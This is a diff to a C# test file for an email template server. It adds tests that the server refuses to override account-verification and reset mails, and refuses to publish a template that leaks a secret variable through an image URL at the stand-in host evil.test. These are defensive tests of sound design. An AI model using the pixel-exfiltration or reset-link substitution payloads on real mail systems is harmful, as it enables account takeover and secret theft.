@@ -1,4 +1,5 @@
 using System.Net;
+using System.Net.Http.Json;
 using System.Text.RegularExpressions;
 
 namespace Waybill.Server.Specs.Studio;
@@ -84,10 +85,10 @@ public sealed partial class Keeping_templates(SharedServer shared)
     public async Task Stands_in_front_of_the_shipped_one_until_it_is_removed()
     {
         using var door = await EnterAsync();
-        const string shipped = "/admin/t/default/templates/accounts.verify";
+        const string shipped = "/admin/t/default/templates/racketbook.moderation";
         using var elsewhere = await door.Http.GetAsync(new Uri(shipped, UriKind.Relative));
         var path = elsewhere.Headers.Location!.ToString();
-        var form = StudioSteps.Template(await TagAsync(door, path), "Ours.", "accounts.verify", "accounts.verify");
+        var form = StudioSteps.Template(await TagAsync(door, path), "Ours.", "racketbook.moderation", "racketbook.moderation");
         using var saved = await door.PostAsync(path, form);
         var own = saved.Headers.Location!.ToString();
         var shown = (await door.GetAsync(own)).Text;
@@ -98,6 +99,38 @@ public sealed partial class Keeping_templates(SharedServer shared)
         Assert.Equal(HttpStatusCode.Conflict, late.StatusCode);
         using var back = await door.Http.GetAsync(new Uri(shipped, UriKind.Relative));
         Assert.Equal(path, back.Headers.Location!.ToString());
+    }
+
+    /// <summary>Not even an owner's: somebody who may write the first tenant's templates would have the links of all accounts.</summary>
+    [Fact]
+    public async Task Stands_never_in_front_of_a_mail_about_accounts()
+    {
+        using var door = await EnterAsync();
+        using var elsewhere = await door.Http.GetAsync(new Uri("/admin/t/default/templates/accounts.verify", UriKind.Relative));
+        var path = elsewhere.Headers.Location!.ToString();
+        using var saved = await door.PostAsync(path, StudioSteps.Template(await TagAsync(door, path), "Ours.", "accounts.verify", "accounts.verify"));
+        var server = await shared.ServerAsync();
+        using var http = server.ClientWith(server.ApiKey);
+        using var made = await http.PostAsJsonAsync("/templates", new { name = "Ours", alias = "accounts.reset", subject = "x", markdown = "x" });
+        using var sent = await http.PostAsJsonAsync("/emails", new { from = "shop@example.com", to = "ann@example.org", template = new { id = "accounts.reset", variables = new { url = "https://evil.test" } } });
+
+        Assert.Equal((HttpStatusCode.UnprocessableEntity, HttpStatusCode.Forbidden, HttpStatusCode.UnprocessableEntity), (saved.StatusCode, made.StatusCode, sent.StatusCode));
+        Assert.Contains("accounts.verify is a mail about accounts", await door.ReadAsync(saved), StringComparison.Ordinal);
+        Assert.Contains("accounts.reset is a mail about accounts", await made.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.Contains("accounts.reset is a mail about accounts", await sent.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Is_not_published_where_it_gives_a_secret_away()
+    {
+        var server = await shared.ServerAsync();
+        using var http = server.ClientWith(server.ApiKey);
+        using var made = await http.PostAsJsonAsync(
+            "/templates", new { name = "Away", alias = "away", subject = "x", markdown = "Hello\n\n![x](https://evil.test/p.png?u={{u}})", variables = new[] { new { key = "u", type = "url", secret = true } } });
+        using var published = await http.PostAsync(new Uri("/templates/away/publish", UriKind.Relative), content: null);
+
+        Assert.Equal((HttpStatusCode.Created, HttpStatusCode.UnprocessableEntity), (made.StatusCode, published.StatusCode));
+        Assert.Contains("line 3, column 32: u is secret and cannot stand in the address of a picture", await published.Content.ReadAsStringAsync(), StringComparison.Ordinal);
     }
 
     [Theory]
